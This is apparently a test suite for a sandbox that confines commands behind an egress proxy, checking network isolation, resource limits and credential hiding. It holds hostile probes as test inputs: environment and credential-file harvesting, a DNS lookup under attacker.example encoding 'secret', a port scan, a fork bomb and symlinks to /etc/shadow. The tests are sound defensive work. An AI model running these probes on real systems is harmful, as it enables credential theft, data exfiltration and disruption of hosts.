import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  ADDRESSES,
  type Arrival,
  headerOf,
  insideUserNamespace,
  startInternet,
  type Internet,
} from '../../examples/demo/stand-in';
import { RunRefused, type RunResult } from '../../lib/twin';
import { hasProgram, KEY, runScript } from './place';

let internet: Internet;
beforeAll(async () => {
  internet = await startInternet({ modelKey: KEY, gitPassword: 'git-canary' });
});
afterAll(() => internet.stop());
beforeEach(() => internet.clear());

const ASK = `curl -sS -m5 -o /dev/null -w '%{http_code}\\n' -d '{"stream":false}'`;

/** Ways out by address; `probe` prints one line each and never hangs. */
const TARGETS = [
  [ADDRESSES.nobody, 443],
  [ADDRESSES.nobody, 22],
  [ADDRESSES.model, 443],
  [ADDRESSES.dns, 53],
  [ADDRESSES.metadata, 80],
  [ADDRESSES.taskMetadata, 80],
] as const;
const PROBE = `
import socket
for host, port in ${JSON.stringify(TARGETS)}:
    s = socket.socket(); s.settimeout(2)
    try: s.connect((host, port)); print('OUT', host, port)
    except OSError as e: print('in', host, port, e)
for port in (443, 53, 123):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b'x' * 40, ('${ADDRESSES.nobody}', port)); print('sent', port)
    except OSError as e: print('in', port, e)
for port in (443, 80):
    s = socket.socket(socket.AF_INET6); s.settimeout(2)
    try: s.connect(('2001:db8::66', port)); print('OUT', port)
    except OSError as e: print('in', port, e)
for name in ('attacker.example', 'c2VjcmV0.attacker.example'):
    try: print('OUT', socket.getaddrinfo(name, 443))
    except OSError as e: print('in', name, e)
`;

describe('the way that is open', () => {
  let result: RunResult;
  let arrived: readonly Arrival[];
  beforeAll(async () => {
    internet.clear();
    result = await runScript(
      internet,
      [
        `${ASK} -H 'x-api-key: foreign' --noproxy '*' https://api.model.example/v1/messages`,
        `${ASK} https://api.model.example/v1/messages`,
        `${ASK} http://192.0.2.1:8080/model/v1/messages`,
        `${ASK.replace(/ -d .*/, '')} https://api.model.example/v1/files`,
        `env; cat /proc/*/environ | tr '\\0' '\\n'; find / -xdev -name '*.key' -o -name 'value' -path '*credentials*' 2>/dev/null`,
      ].join('\n'),
    );
    arrived = internet.record();
  });

  test('serves a listed request the transparent way, by CONNECT and by base URL, and refuses another path', () => {
    expect([...(result.stdout?.split('\n').slice(0, 4) ?? []), result.stderr]).toEqual([
      '200',
      '200',
      '200',
      '403',
      '',
    ]);
  });

  test('hands the host our key and never the one the command sent', () => {
    const keys = arrived.flatMap((arrival) => (arrival.kind === 'request' ? [headerOf(arrival, 'x-api-key')] : []));
    expect(keys).toEqual([KEY, KEY, KEY]);
  });

  test('shows the command neither the key nor a private key', () => {
    expect(result.stdout).toContain('HTTPS_PROXY=http://192.0.2.1:3128');
    expect(result.stdout).not.toContain(KEY);
    expect(result.stdout).not.toMatch(/\.key$/m);
  });

  test('sums up what was allowed by its rule and what was refused', () => {
    expect(result.summary).toContainEqual(
      expect.objectContaining({ decision: 'allow', why: 'POST /v1/messages', host: 'api.model.example' }),
    );
    expect(result.summary).toContainEqual(expect.objectContaining({ decision: 'deny', path: '/v1/files' }));
  });

  test('leaves no secret behind on disk', () => {
    expect(readFileSync(result.log, 'utf8')).not.toContain(KEY);
    expect(existsSync(join(result.log, '..', 'window'))).toBe(false);
  });
});

describe('ways out', () => {
  test('lets nothing out by address, datagram, IPv6 or DNS (N-01 to N-07, N-14 to N-16), and refuses at once', async () => {
    const started = Date.now();
    const { stdout } = await runScript(internet, `python3 -c "$PROBE"`, { environment: { PROBE } });
    expect(stdout).not.toMatch(/OUT/);
    expect(stdout?.match(/^in /gm)?.length).toBeGreaterThanOrEqual(10);
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(internet.record()).toEqual([]);
  });

  test('the same probe gets out where there is no cell', async () => {
    internet.namespace.run('python3', ['-c', PROBE]);
    expect(internet.record().filter(({ kind }) => kind === 'tcp').length).toBeGreaterThanOrEqual(3);
  });

  test('finds no port of the proxy open but its listeners (N-13)', async () => {
    const scan = `
import socket
for host in ('192.0.2.1', '192.0.2.3'):
    for port in range(1, 65536):
        s = socket.socket()
        if s.connect_ex((host, port)) == 0: print(host, port)
        s.close()
`;
    const { stdout } = await runScript(internet, `python3 -c "$SCAN"`, { environment: { SCAN: scan } });
    expect(stdout?.trim().split('\n')).toEqual(['192.0.2.1 3128', '192.0.2.1 8080', '192.0.2.3 80', '192.0.2.3 443']);
  });

  test('has only the proxy’s sockets without a network', async () => {
    const script = `tail -n +3 /proc/net/dev | cut -d: -f1; ${ASK} --unix-socket /run/egress/gateway.sock http://egress/model/v1/messages; python3 -c "$PROBE"`;
    const { stdout } = await runScript(internet, script, { network: 'none', environment: { PROBE } });
    expect(
      stdout
        ?.split('\n')
        .slice(0, 2)
        .map((line) => line.trim()),
    ).toEqual(['lo', '200']);
    expect(stdout).not.toMatch(/OUT/);
    expect(internet.record().filter(({ kind }) => kind === 'request')).toHaveLength(1);
  });
});

const ISOLATIONS = ['bubblewrap', 'runc', 'crun', 'runsc'] as const;

/** Why a way to confine can't be tried on this machine. */
function whyNot(isolation: (typeof ISOLATIONS)[number]): string | undefined {
  if (isolation === 'bubblewrap') return undefined;
  if (!['/usr/bin', '/usr/sbin', '/usr/local/bin'].some((folder) => hasProgram(join(folder, isolation))))
    return 'it is not installed';
  return process.getuid?.() === 0 && !insideUserNamespace() ? undefined : 'it needs root';
}

const untried = ISOLATIONS.flatMap((isolation) => (whyNot(isolation) ? [[isolation, whyNot(isolation)]] : []));
if (untried.length > 0) test.skip.each(untried)('the cell of %s is not tried here: %s', () => undefined);

describe.each(ISOLATIONS.filter((isolation) => whyNot(isolation) === undefined))('the cell of %s', (isolation) => {
  test('is read-only, without capabilities, new privileges, root or nested user namespaces (F-01 to F-04, F-13)', async () => {
    const script = `id -u; grep -E 'Cap(Eff|Bnd)|NoNewPrivs' /proc/self/status | cut -f2 | xargs; for p in /x /usr/x /etc/x /etc/ssl/certs/x; do touch $p 2>/dev/null && echo WROTE $p; done
unshare -Ur true 2>/dev/null && echo NESTED; touch /tmp/x ~/x && echo private; ls /root /home/plain /srv/app /var/run/docker.sock 2>/dev/null; mount -t tmpfs t /tmp 2>/dev/null && echo MOUNTED; true`;
    const { stdout } = await runScript(internet, script, { isolation });
    const [uid, ...rest] = stdout?.trim().split(/\s+/) ?? [];
    expect(Number(uid)).toBeGreaterThan(0);
    expect(rest).toEqual(['0000000000000000', '0000000000000000', '1', 'private']);
  });

  test('holds a fork bomb (F-15)', async () => {
    const bomb = `python3 -c "
import os
n = 0
try:
    while n < 400:
        if os.fork() == 0: os.execvp('sleep', ['sleep', '5'])
        n += 1
except OSError: pass
print(n)"`;
    const { stdout } = await runScript(internet, bomb, { isolation, pids: 48 });
    expect(Number(stdout)).toBeGreaterThan(5);
    expect(Number(stdout)).toBeLessThan(48);
  });

  test('ends what takes too much memory, or says that it can’t', async () => {
    const result = await runScript(internet, `python3 -c "x = b'x' * 400_000_000; print('took it')"`, {
      isolation,
      memoryBytes: 100_000_000,
    });
    if (result.notInForce.some((line) => line.startsWith('memory'))) return;
    expect(result.stdout).not.toContain('took it');
    expect(result.exitCode).toBe(137);
  });
});

test('nothing the command started outlives the run (F-17)', async () => {
  const mark = `4${Date.now() % 1_000_000}`;
  await runScript(internet, `setsid sleep ${mark} >/dev/null 2>&1 & sleep 0.2`);
  expect(execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' })).not.toContain(`sleep ${mark}`);
});

describe('the workspace', () => {
  function makeWorkspace(): string {
    const folder = mkdtempSync(join(tmpdir(), 'anchorhold-workspace-'));
    chmodSync(folder, 0o755);
    writeFileSync(join(folder, 'code.txt'), 'code\n');
    writeFileSync(join(folder, 'gone.txt'), 'gone\n');
    writeFileSync(join(folder, '.env'), 'TOKEN=canary-file');
    writeFileSync(join(folder, 'robot.json'), '{"type": "service_account", "private_key": "canary-file"}');
    mkdirSync(join(folder, '.aws'));
    writeFileSync(join(folder, '.aws', 'credentials'), 'canary-file');
    return folder;
  }

  test('hides credential files and names them (F-05); the rest is read-only', async () => {
    const directory = makeWorkspace();
    const notices: string[] = [];
    const { stdout, hidden } = await runScript(
      internet,
      'cat code.txt .env robot.json; cat .aws/* ; echo x >code.txt; true',
      {
        workspace: { kind: 'read-only', directory },
        notice: (line) => notices.push(line),
      },
    );
    expect(stdout).toBe('code\n');
    expect(hidden.map(({ path }) => path)).toEqual(['.aws', '.env', 'robot.json']);
    expect(notices.join('\n')).toContain('".env" (environment file)');
    expect(readFileSync(join(directory, 'code.txt'), 'utf8')).toBe('code\n');
  });

  test('an overlay changes nothing until it is applied, and applies no link out of the workspace (F-08)', async () => {
    const directory = makeWorkspace();
    const script = `echo new >code.txt; rm gone.txt; mkdir deep; echo a >deep/a; ln -s /etc/passwd out; ln -s ../../up up; ln -s code.txt in; mkdir -p .git/hooks; echo evil >.git/hooks/pre-commit; echo x >.env; cat .aws/credentials`;
    const { overlay, stdout } = await runScript(internet, script, { workspace: { kind: 'overlay', directory } });
    expect(stdout).not.toContain('canary-file');
    expect(readFileSync(join(directory, 'code.txt'), 'utf8')).toBe('code\n');
    const refused = overlay?.apply();
    expect(refused?.map(({ path }) => path).sort()).toEqual(['.env', '.git/hooks/pre-commit', 'out', 'up']);
    expect(readFileSync(join(directory, 'code.txt'), 'utf8')).toBe('new\n');
    expect(readFileSync(join(directory, 'deep', 'a'), 'utf8')).toBe('a\n');
    expect(readFileSync(join(directory, '.env'), 'utf8')).toBe('TOKEN=canary-file');
    expect([
      existsSync(join(directory, 'gone.txt')),
      existsSync(join(directory, 'in')),
      existsSync(join(directory, 'up')),
    ]).toEqual([false, true, false]);
  });

  test('a link in the workspace to a file outside shows nothing', async () => {
    const directory = makeWorkspace();
    symlinkSync('/etc/shadow', join(directory, 'innocent'));
    const { stdout } = await runScript(internet, 'cat innocent 2>&1; true', {
      workspace: { kind: 'read-only', directory },
    });
    expect(stdout).toMatch(/No such file/);
  });
});

describe('refusals', () => {
  test('refuses, and runs nothing, when the secret has no value', async () => {
    const mark = join(mkdtempSync(join(tmpdir(), 'anchorhold-mark-')), 'ran');
    const refused = runScript(internet, `touch ${mark}`, { secrets: { 'model-key': { env: 'TWIN_TEST_UNSET' } } });
    await expect(refused).rejects.toThrow(
      'secret model-key: expected a value in its variable, got none; set the variable [secret-missing]',
    );
    expect(existsSync(mark)).toBe(false);
  });

  test('refuses an Envoy below the floor', async () => {
    const old = join(mkdtempSync(join(tmpdir(), 'anchorhold-old-')), 'envoy');
    writeFileSync(old, '#!/bin/sh\necho "envoy  version: abc/1.38.3/Clean/RELEASE/BoringSSL"\n', { mode: 0o755 });
    await expect(runScript(internet, 'true', { envoy: old })).rejects.toThrow(
      /expected Envoy 1.40.0 or later, got 1.38.3 .*\[envoy-too-old\]/,
    );
  });

  test('refuses, with cause and cure, where the kernel makes no namespace', async () => {
    const path = mkdtempSync(join(tmpdir(), 'anchorhold-path-'));
    writeFileSync(
      join(path, 'unshare'),
      '#!/bin/sh\necho "unshare: unshare failed: Operation not permitted" >&2\nexit 1\n',
      { mode: 0o755 },
    );
    const before = process.env['PATH'];
    process.env['PATH'] = `${path}:${before ?? ''}`;
    try {
      const failure: unknown = await runScript(internet, 'true').catch((error: unknown) => error);
      expect(failure).toBeInstanceOf(RunRefused);
      expect(String(failure)).toMatch(/refuses a private network .* or run as root \[no-namespaces\]/);
    } finally {
      process.env['PATH'] = before;
    }
  });
});
